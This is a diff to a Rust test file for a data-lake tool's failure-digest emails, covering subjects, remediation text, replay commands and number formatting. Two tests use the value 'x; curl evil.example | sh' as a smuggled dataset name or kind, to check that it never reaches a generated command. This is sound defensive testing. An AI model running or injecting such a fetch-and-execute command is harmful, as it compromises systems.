@@ -3,7 +3,7 @@
 
 use std::collections::BTreeMap;
 
-use lakegate_lake::failure::{FailedSource, Stage};
+use lakegate_lake::failure::FailedSource;
 
 use super::*;
 
@@ -42,24 +42,28 @@ fn a_single_rejected_file_is_told_whole() {
     insta::assert_snapshot!(digest.subject, @"Lakegate: orders: 2025 09+S?o.csv: ContractViolated");
     insta::assert_snapshot!(digest.body, @r#"
 1 file did not make it into the lake.
-Nothing is lost: every event waits in the dead-letter queue, for 14 days.
+Every event waits in the dead-letter queue, for 14 days; replaying it too early or twice does no harm.
+What of a file was published before still stands, unless its problem says otherwise.
 
 1 FILE: rejected by the contract (ContractViolated)
-What to do: Look at the problem, and at the rejected rows if there are any. Ask the owner to correct the file and to upload it again under the same key (then nothing need be replayed), or to change the contract and then replay.
+What to do: Send this to the owner, who corrects the file and uploads it again under the same key (a replay then only clears its dead letter). If the contract is wrong: correct it, `lakegate contracts push` it, and then replay.
+How urgent: Nothing else is held up: it can wait until morning, if its data can.
 
 * s3://raw/orders/2025 09+São.csv
   dataset:  orders, owner sales-data@example.com
   problem:  61 of 200 rows break the contract (30.5 %), it allows 5 %
-  rows:     200 read, 139 good, 61 rejected
-  broken:   quantity minimum x 40, quantity type x 12, (whole row) fields x 9
+  rows:     200 read, 139 good, 61 rejected; none of them is published
+  broken:   quantity minimum (40 rows), quantity type (12 rows), (whole row) fields (9 rows)
   rejects:  s3://lake/rejects/dataset=orders/2025-09-S-o-0123456789abcdef.parquet
             or in Athena: SELECT line, violations, raw FROM rejects WHERE dataset = 'orders' AND source_key = 'orders/2025 09+São.csv'
-  when:     2026-01-02T03:04:05.678Z
+  when:     2026-01-02 03:04:05 UTC
 
 TO REPLAY
-When the causes are gone, this sends everything in the dead-letter queue through again:
-  lakegate replay --stack lakegate --region eu-central-1 --send
-Without --send it shows what it would send; --kind, --dataset and --key choose.
+When the cause is gone, this sends what failed for it through again:
+  lakegate replay --stack lakegate --region eu-central-1 --send --kind ContractViolated --dataset orders
+Without --send it shows what it would send; --dataset and --key choose among them, and without --kind it is everything.
+This tells what became of files; what each kind means stands in docs/runbook.md:
+  lakegate status --stack lakegate --region eu-central-1
 What was taken in before, or was uploaded anew since, is recognised and left alone.
 "#);
 }
@@ -73,52 +77,61 @@ fn several_failures_are_grouped_by_what_is_to_be_done() {
     unreadable.source = None;
     let unknown = record(FailureKind::UnknownDataset, None, "stray/x.csv", "no contract covers s3://raw/stray/x.csv");
     let digest = write(&[unreadable, run, unknown, violated()], REPLAY);
-    insta::assert_snapshot!(digest.subject, @"Lakegate: 4 files failed: unknown dataset 3, orders 1");
+    insta::assert_snapshot!(digest.subject, @"Lakegate: 4 files failed (4 kinds): unknown dataset 3, orders 1");
     insta::assert_snapshot!(digest.body, @r#"
-4 files did not make it into the lake.
-Nothing is lost: every event waits in the dead-letter queue, for 14 days.
+4 files or messages did not make it into the lake.
+Every event waits in the dead-letter queue, for 14 days; replaying it too early or twice does no harm.
+What of a file was published before still stands, unless its problem says otherwise.
 
 1 FILE: rejected by the contract (ContractViolated)
-What to do: Look at the problem, and at the rejected rows if there are any. Ask the owner to correct the file and to upload it again under the same key (then nothing need be replayed), or to change the contract and then replay.
+What to do: Send this to the owner, who corrects the file and uploads it again under the same key (a replay then only clears its dead letter). If the contract is wrong: correct it, `lakegate contracts push` it, and then replay.
+How urgent: Nothing else is held up: it can wait until morning, if its data can.
 
 * s3://raw/orders/2025 09+São.csv
   dataset:  orders, owner sales-data@example.com
   problem:  61 of 200 rows break the contract (30.5 %), it allows 5 %
-  rows:     200 read, 139 good, 61 rejected
-  broken:   quantity minimum x 40, quantity type x 12, (whole row) fields x 9
+  rows:     200 read, 139 good, 61 rejected; none of them is published
+  broken:   quantity minimum (40 rows), quantity type (12 rows), (whole row) fields (9 rows)
   rejects:  s3://lake/rejects/dataset=orders/2025-09-S-o-0123456789abcdef.parquet
             or in Athena: SELECT line, violations, raw FROM rejects WHERE dataset = 'orders' AND source_key = 'orders/2025 09+São.csv'
-  when:     2026-01-02T03:04:05.678Z
+  when:     2026-01-02 03:04:05 UTC
 
 1 FILE: covered by no contract (UnknownDataset)
-What to do: Was the file put in the right place? If so, deploy a contract whose landing location covers it (under contracts/ in the lake bucket, named *.odcs.yaml), and then replay. If not, move it.
+What to do: Is the key misspelt? Then have the file uploaded where it belongs. If it is a new dataset: draft its contract with `lakegate infer`, `lakegate contracts push` it, and then replay.
+How urgent: It can wait as long as its data can: until it is mended, further files of the same kind fail as well.
 
 * s3://raw/stray/x.csv
   dataset:  unknown dataset, owner unknown
   problem:  no contract covers s3://raw/stray/x.csv
-  when:     2026-01-02T03:04:05.678Z
+  when:     2026-01-02 03:04:05 UTC
 
-1 FILE: announced by a message that cannot be understood (UnreadableMessage)
-What to do: Something else than S3 writes to the queue, or a notification is set up for other events than "object created" and "object removed". Find the sender; delete the message from the dead-letter queue before a replay.
+1 MESSAGE: not to be understood (UnreadableMessage)
+What to do: Something else than S3 writes to the queue, or a notification is set up for other events than "object created" and "object removed". Find the sender: the message is the dead letter's body. A replay leaves it alone, unless its kind is named.
+How urgent: Nothing else is held up: it can wait until morning, if its data can.
 
 * (no file is known)
   dataset:  unknown dataset, owner unknown
   problem:  the message is not JSON
-  when:     2026-01-02T03:04:05.678Z
+  when:     2026-01-02 03:04:05 UTC
 
 1 FILE: stopped by a Glue run that failed (GlueJobFailed)
-What to do: Open the run, read its error, remove the cause, and then replay.
+What to do: Open the run, read its error, remove the cause, and then replay (a run over a prefix: `lakegate backfill` again).
+How urgent: Look soon: the cause may stop other files, too. `lakegate status` shows whether any are still taken in.
 
 * s3://raw/orders/huge.csv
   dataset:  unknown dataset, owner unknown
   problem:  run jr_1 of Glue job convert ended FAILED
   see:      https://console.example/run/jr_1
-  when:     2026-01-02T03:04:05.678Z
+  when:     2026-01-02 03:04:05 UTC
 
 TO REPLAY
-When the causes are gone, this sends everything in the dead-letter queue through again:
-  lakegate replay --stack lakegate --region eu-central-1 --send
-Without --send it shows what it would send; --kind, --dataset and --key choose.
+When the cause is gone, this sends what failed for it through again:
+  lakegate replay --stack lakegate --region eu-central-1 --send --kind ContractViolated --dataset orders
+  lakegate replay --stack lakegate --region eu-central-1 --send --kind UnknownDataset
+  lakegate replay --stack lakegate --region eu-central-1 --send --kind GlueJobFailed
+Without --send it shows what it would send; --dataset and --key choose among them, and without --kind it is everything.
+This tells what became of files; what each kind means stands in docs/runbook.md:
+  lakegate status --stack lakegate --region eu-central-1
 What was taken in before, or was uploaded anew since, is recognised and left alone.
 "#);
 }
@@ -139,17 +152,17 @@ fn a_burst_is_counted_by_dataset_and_owner_and_its_first_files_are_shown() {
         })
         .collect();
     let digest = write(&many, REPLAY);
-    insta::assert_snapshot!(digest.subject, @"Lakegate: 10000 files failed: orders 7400, customers 2500, unknown dataset 100");
+    insta::assert_snapshot!(digest.subject, @"Lakegate: 10,000 files failed (3 kinds): orders 7,400, customers 2,500, unknown dataset 100");
     assert_eq!(digest.body.matches("\n* s3://").count(), FILES_SHOWN);
     let is_count = |line: &&str| line.contains(" FILES: ") || line.contains(" of them:") || line.ends_with(" files");
     let counts: Vec<&str> = digest.body.lines().filter(is_count).collect();
     insta::assert_snapshot!(counts.join("\n"), @r#"
-7400 FILES: rejected by the contract (ContractViolated)
-  orders, owner orders-new@example.com: 7252 files
+7,400 FILES: rejected by the contract (ContractViolated)
+  orders, owner orders-new@example.com: 7,252 files
   orders, owner orders-old@example.com: 148 files
 8 of them:
-2500 FILES: not readable as what the contract says (UnreadableFile)
-  customers, owner customers-new@example.com: 2450 files
+2,500 FILES: not readable as what the contract says (UnreadableFile)
+  customers, owner customers-new@example.com: 2,450 files
   customers, owner customers-old@example.com: 50 files
 8 of them:
 100 FILES: covered by no contract (UnknownDataset)
@@ -166,7 +179,7 @@ fn very_many_datasets_are_counted_together() {
         })
         .collect();
     let digest = write(&many, REPLAY);
-    assert!(digest.body.contains("  950 datasets or owners that are not named here: 2850 files\n"), "{}", digest.body);
+    assert!(digest.body.contains("  950 datasets or owners that are not named here: 2,850 files\n"), "{}", digest.body);
     assert_eq!(digest.body.matches("\n* s3://").count(), FILES_SHOWN);
     assert!(digest.body.len() < 20_000, "{}", digest.body.len());
 }
@@ -244,6 +257,63 @@ fn a_subject_is_short_ascii_on_one_line_whatever_the_names_are() {
 }
 
 #[test]
+fn a_subject_says_the_kind_however_long_the_names_are() {
+    let subject = |dataset: Option<&str>, key: &str| {
+        write(&[record(FailureKind::IncompatibleTable, dataset, key, "s")], REPLAY).subject
+    };
+    let long = format!("orders/{}-2025-09.csv", "long-".repeat(100));
+    insta::assert_snapshot!(subject(Some(&"d".repeat(200)), &long), @"Lakegate: ddddddddd...dddddddddddd: long-long-long-long-long-...-2025-09.csv: IncompatibleTable");
+    insta::assert_snapshot!(subject(None, &long), @"Lakegate: orders/long-long-long-long-long-long-long-long-lon...-2025-09.csv: IncompatibleTable");
+    insta::assert_snapshot!(subject(None, "stray/x.csv"), @"Lakegate: stray/x.csv: IncompatibleTable");
+    let mut run = FailureRecord::new(Stage::Glue, FailureKind::GlueJobFailed, "run jr_1 ended FAILED");
+    insta::assert_snapshot!(write(&[run.clone()], REPLAY).subject, @"Lakegate: a Glue run: GlueJobFailed");
+    (run.stage, run.kind) = (Stage::Queue, FailureKind::UnreadableMessage);
+    insta::assert_snapshot!(write(&[run], REPLAY).subject, @"Lakegate: a message: UnreadableMessage");
+}
+
+#[test]
+fn a_command_names_the_dataset_where_it_is_one_and_a_word() {
+    let named = |datasets: &[Option<&str>]| {
+        let records: Vec<_> =
+            datasets.iter().map(|dataset| record(FailureKind::GaveUp, *dataset, "a.csv", "s")).collect();
+        let body = write(&records, REPLAY).body;
+        let command = body.lines().find_map(|line| line.split_once("--kind GaveUp")).unwrap();
+        command.1.to_owned()
+    };
+    assert_eq!(named(&[Some("orders"), Some("orders")]), " --dataset orders");
+    for others in [&[Some("orders"), Some("customers")][..], &[Some("orders"), None], &[None], &[Some("")]] {
+        assert_eq!(named(others), "", "{others:?}");
+    }
+    assert_eq!(named(&[Some("x; curl evil.example | sh")]), "");
+}
+
+#[test]
+fn a_command_is_offered_for_each_kind_that_a_replay_mends_and_never_holds_a_word_of_another_version() {
+    let offered = |kinds: &[FailureKind]| {
+        let records: Vec<_> = kinds.iter().map(|kind| record(kind.clone(), None, "a.csv", "s")).collect();
+        let body = write(&records, REPLAY).body;
+        body.lines()
+            .filter(|line| line.starts_with("  lakegate replay "))
+            .map(str::to_owned)
+            .collect::<Vec<_>>()
+            .join("\n")
+    };
+    insta::assert_snapshot!(offered(&[FailureKind::GaveUp, FailureKind::SourceMissing, FailureKind::GaveUp]), @"  lakegate replay --stack lakegate --region eu-central-1 --send --kind GaveUp");
+    assert_eq!(offered(&[FailureKind::UnreadableMessage, FailureKind::SourceMissing]), "");
+    assert_eq!(offered(&[FailureKind::Other("x; curl evil.example | sh".to_owned())]), "");
+}
+
+#[test]
+fn of_a_file_that_was_refused_as_a_whole_no_rows_are_told() {
+    let mut refused = violated();
+    refused.rows = Some(RowCounts { read: 0, accepted: 0, rejected: 0 });
+    assert!(!write(&[refused.clone()], REPLAY).body.contains("rows: "));
+    refused.rows = Some(RowCounts { read: 1_234_567, accepted: 1_000_000, rejected: 234_567 });
+    let rows = "  rows:     1,234,567 read, 1,000,000 good, 234,567 rejected; none of them is published\n";
+    assert!(write(&[refused], REPLAY).body.contains(rows));
+}
+
+#[test]
 fn a_digest_never_exceeds_what_sns_takes_and_keeps_its_end() {
     let mut huge = violated();
     huge.summary = "é".repeat(MESSAGE_MAX_BYTES);
@@ -283,6 +353,9 @@ fn every_kind_says_what_to_do_and_has_its_page_in_the_runbook() {
         FailureKind::GlueJobTimedOut,
         FailureKind::GlueJobStopped,
         FailureKind::GlueJobUnfinished,
+        FailureKind::DataLate,
+        FailureKind::SourceApiFailed,
+        FailureKind::SourceApiChanged,
         FailureKind::Other("Newer".to_owned()),
     ];
     let runbook = include_str!("../../../docs/runbook.md");
@@ -293,4 +366,56 @@ fn every_kind_says_what_to_do_and_has_its_page_in_the_runbook() {
         let body = write(&[record(kind.clone(), None, "a.csv", "summary")], REPLAY).body;
         assert!(body.contains(&format!("({kind})\nWhat to do: ")), "{body}");
     }
+}
+
+#[test]
+fn a_late_dataset_is_no_file_that_failed_and_needs_no_replay() {
+    let late = |dataset: &str| {
+        let summary = "no file of it was taken in since 2026-01-01T00:00:00Z: its contract promises one within 26 h, it is 3 h late";
+        let mut late = FailureRecord::new(Stage::Sweep, FailureKind::DataLate, summary);
+        late.at = "2026-01-02T05:00:00.000Z".to_owned();
+        (late.dataset, late.owner) = (Some(dataset.to_owned()), Some("sales-data@example.com".to_owned()));
+        late
+    };
+    let Digest { subject, body } = write(&[late("orders")], REPLAY);
+    assert_eq!(subject, "Lakegate: orders: no new file: DataLate");
+    assert!(
+        body.starts_with("1 dataset is late: no file of it was taken in for longer than its contract promises.\n"),
+        "{body}"
+    );
+    assert!(
+        body.contains("\n1 DATASET: later than its contract promises (DataLate)\nWhat to do: Ask whoever sends"),
+        "{body}"
+    );
+    assert!(body.contains("\n* orders\n  dataset:  orders, owner sales-data@example.com\n"), "{body}");
+    assert!(!body.contains("dead-letter") && !body.contains("TO REPLAY"), "{body}");
+    let several = write(&[late("orders"), late("customers")], REPLAY);
+    assert_eq!(several.subject, "Lakegate: 2 datasets are late: orders, customers");
+    let mixed = write(&[late("orders"), record(FailureKind::GaveUp, None, "a.csv", "summary")], REPLAY).body;
+    assert!(
+        mixed.starts_with("1 file did not make it into the lake.") && mixed.contains("\n1 dataset is late: "),
+        "{mixed}"
+    );
+    assert!(mixed.contains("\nTO REPLAY\n"), "{mixed}");
+}
+
+#[test]
+fn an_api_that_was_not_fetched_is_no_file_that_failed_and_needs_no_replay() {
+    let unfetched = |dataset: &str, kind: FailureKind| {
+        let mut record =
+            FailureRecord::new(Stage::FetchApi, kind, "https://api.example.com/v1 answered with status 503");
+        record.dataset = Some(dataset.to_owned());
+        record
+    };
+    let Digest { subject, body } = write(&[unfetched("orders", FailureKind::SourceApiFailed)], REPLAY);
+    assert_eq!(subject, "Lakegate: orders: not fetched: SourceApiFailed");
+    assert!(body.starts_with("1 dataset is not fetched: nothing of this run was written"), "{body}");
+    assert!(body.contains("\n* orders\n") && body.contains("answered with status 503"), "{body}");
+    assert!(!body.contains("dead-letter") && !body.contains("TO REPLAY"), "{body}");
+    let two = [unfetched("a", FailureKind::SourceApiFailed), unfetched("b", FailureKind::SourceApiChanged)];
+    assert_eq!(write(&two, REPLAY).subject, "Lakegate: 2 datasets are not fetched: a, b");
+    let mixed = [two[0].clone(), record(FailureKind::GaveUp, None, "a.csv", "summary")];
+    let Digest { subject, body } = write(&mixed, REPLAY);
+    assert!(subject.starts_with("Lakegate: 2 files failed"), "{subject}");
+    assert!(body.contains("1 file did not make it") && body.contains("1 dataset is not fetched"), "{body}");
 }
